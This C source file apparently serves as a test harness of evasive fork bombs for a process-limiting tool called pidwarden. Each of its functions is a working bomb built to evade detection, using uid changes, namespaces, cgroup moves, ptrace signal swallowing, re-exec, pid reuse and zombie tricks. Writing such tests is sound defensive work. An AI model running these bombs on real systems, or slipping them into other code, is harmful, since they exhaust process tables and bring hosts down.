/*
 * escape WAY: bombs whose author has read pidwarden's source and looks for a way around it. Only ever run inside a pen.
 *
 *   credentials  each member becomes another user           namespaces   … a new user and pid namespace
 *   cgroups DIR  … moves to a cgroup of its own below DIR    shared-vm    processes that share their memory
 *   into-cgroup DIR  born in a cgroup of its own (clone3)    thread-forks  only threads fork, and leaders end first
 *   ptrace       each member is traced by one that swallows every signal that would stop it
 *   re-exec      a copy of its file under a new name for each member     pid-reuse  born with pids that were others' (clone3)
 *   naps         members fork only now and then               sleepers     all sleep first, then all fork at once
 *   relay N      a chain, each founding N sleepers before it ends: nobody has many children, nobody lives long
 *   unreaped     copies that end at once; their parents ignore them and make more
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void nap(long ms)
{
	struct timespec t = {ms / 1000, ms % 1000 * 1000000};

	nanosleep(&t, NULL);
}

static void credentials(void)
{
	for (;;)
		if (fork() == 0)
			setresuid(20000 + getpid() % 1000, 20000 + getpid() % 1000, 0);
}

static void namespaces(void)
{
	for (;;) {
		if (fork() == 0)
			unshare(CLONE_NEWUSER | CLONE_NEWPID); /* deep enough it fails, and it goes on as it is */
		nap(1);
	}
}

static void cgroups(const char *dir)
{
	char path[256];
	int fd;

	for (;;) {
		if (fork() != 0)
			continue;
		snprintf(path, sizeof(path), "%s/m%d", dir, getpid());
		mkdir(path, 0755);
		strcat(path, "/cgroup.procs");
		fd = open(path, O_WRONLY);
		if (fd >= 0) {
			dprintf(fd, "0\n");
			close(fd);
		}
	}
}

static void into_cgroup(const char *dir)
{
	struct clone_args args = {.flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD};
	char path[256];
	int n = 0;

	for (;;) {
		snprintf(path, sizeof(path), "%s/b%d-%d", dir, getpid(), n++ % 3);
		mkdir(path, 0755);
		args.cgroup = open(path, O_RDONLY | O_DIRECTORY);
		syscall(SYS_clone3, &args, sizeof(args));
		close(args.cgroup);
	}
}

static int on_its_own(void *again)
{
	char *stack;

	for (;;) {
		stack = mmap(NULL, 16384, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		clone(on_its_own, stack + 16384, CLONE_VM | CLONE_FILES | CLONE_FS | CLONE_SIGHAND | SIGCHLD, again);
	}
	return 0;
}

static void *fork_here(void *unused)
{
	(void)unused;
	for (;;) {
		pthread_t t;

		if (fork() == 0) {
			pthread_create(&t, NULL, fork_here, NULL);
			pthread_exit(NULL); /* the leader is a zombie, its thread goes on */
		}
	}
	return NULL;
}

static void thread_forks(void)
{
	pthread_t t;

	pthread_create(&t, NULL, fork_here, NULL);
	pthread_exit(NULL);
}

/* Traces its child, whose forks it traces as well, and passes on no signal at all. */
static void traced(void)
{
	pid_t pid = fork();
	int status;

	if (pid == 0) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		raise(SIGSTOP);
		for (;;)
			fork();
	}
	waitpid(pid, &status, 0);
	ptrace(PTRACE_SETOPTIONS, pid, NULL, (void *)(PTRACE_O_TRACEFORK | PTRACE_O_TRACECLONE | PTRACE_O_TRACEVFORK));
	ptrace(PTRACE_CONT, pid, NULL, NULL);
	while ((pid = waitpid(-1, &status, __WALL)) > 0)
		if (WIFSTOPPED(status))
			ptrace(PTRACE_CONT, pid, NULL, NULL);
}

static void re_exec(const char *self)
{
	char name[64], data[65536];
	ssize_t got;
	int from, to;

	for (;;) {
		if (fork() != 0) {
			nap(1);
			continue;
		}
		snprintf(name, sizeof(name), "/tmp/escape-%d", getpid());
		from = open(self, O_RDONLY);
		to = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0755);
		while ((got = read(from, data, sizeof(data))) > 0)
			if (write(to, data, got) < 0)
				break;
		close(from);
		close(to);
		from = open(name, O_RDONLY);
		unlink(name);
		(void)!write(1, "", 0);
		syscall(SYS_execveat, from, "", (char *[]){name + 5, "re-exec", NULL}, (char *[]){NULL}, AT_EMPTY_PATH);
	}
}

static void pid_reuse(void)
{
	for (;;) {
		pid_t tid, ended = fork();
		struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uintptr_t)&tid, .set_tid_size = 1};

		if (ended == 0)
			_exit(0);
		if (ended > 0)
			waitpid(ended, NULL, 0);
		tid = ended;
		if (syscall(SYS_clone3, &args, sizeof(args)) < 0)
			fork();
	}
}

static void naps(void)
{
	for (;;) {
		fork();
		nap(150);
	}
}

static void sleepers(void)
{
	for (int i = 0; i < 200; i++)
		if (fork() == 0)
			break;
	nap(2500); /* long enough to be taken for old */
	for (;;)
		fork();
}

static void relay(int n)
{
	for (;;) {
		for (int i = 0; i < n; i++)
			if (fork() == 0)
				for (;;)
					pause();
		if (fork() != 0)
			_exit(0);
		nap(5);
	}
}

static void unreaped(void)
{
	for (;;) {
		pid_t pid = fork();

		if (pid == 0 && fork() == 0)
			continue; /* the grandchild goes on as the bomb … */
		if (pid == 0)
			nap(2); /* … and its parent ends a little later */
		if (pid == 0)
			_exit(0);
		nap(1);
	}
}

int main(int argc, char **argv)
{
	const char *way = argc > 1 ? argv[1] : "", *more = argc > 2 ? argv[2] : "";

	if (!strcmp(way, "credentials"))
		credentials();
	if (!strcmp(way, "namespaces"))
		namespaces();
	if (!strcmp(way, "cgroups"))
		cgroups(more);
	if (!strcmp(way, "into-cgroup"))
		into_cgroup(more);
	if (!strcmp(way, "shared-vm"))
		on_its_own(NULL);
	if (!strcmp(way, "thread-forks"))
		thread_forks();
	if (!strcmp(way, "ptrace"))
		traced();
	if (!strcmp(way, "re-exec"))
		re_exec("/proc/self/exe");
	if (!strcmp(way, "pid-reuse"))
		pid_reuse();
	if (!strcmp(way, "naps"))
		naps();
	if (!strcmp(way, "sleepers"))
		sleepers();
	if (!strcmp(way, "relay"))
		relay(atoi(more));
	if (!strcmp(way, "unreaped"))
		unreaped();
	return 2;
}
